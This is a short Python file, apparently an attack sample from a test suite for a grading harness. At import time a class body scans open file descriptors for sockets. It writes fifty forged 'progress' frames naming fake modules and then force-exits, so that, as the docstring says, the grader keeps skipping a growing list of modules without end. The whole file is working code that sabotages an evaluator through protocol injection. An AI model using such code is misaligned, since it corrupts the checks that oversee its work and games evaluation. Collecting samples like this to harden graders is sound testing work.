"""While the file is read (in a class body, which runs then), name a new fake module in "progress" frames, then die: each restart the grader would
leave that module out and tell the next worker about it, so the list of modules to skip grows without end."""
# attack: {"module": "counting", "task": "conv_output_size", "status": ["crashed", "missing"], "sibling": null, "others_pass": false, "max_seconds": 20}
import os
import random
import stat
import struct

class _Flood:
    for _ in range(50):
        _name = "assignments.fake%08d_%s" % (random.randrange(10 ** 8), "x" * 80)
        _header = ('{"body": {"kind": "progress", "module": "%s"}, "tensors": []}' % _name).encode()
        for _fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(_fd).st_mode):
                    os.write(_fd, b"D2LW" + struct.pack(">I", len(_header)) + _header)
            except OSError:
                pass
    os._exit(9)
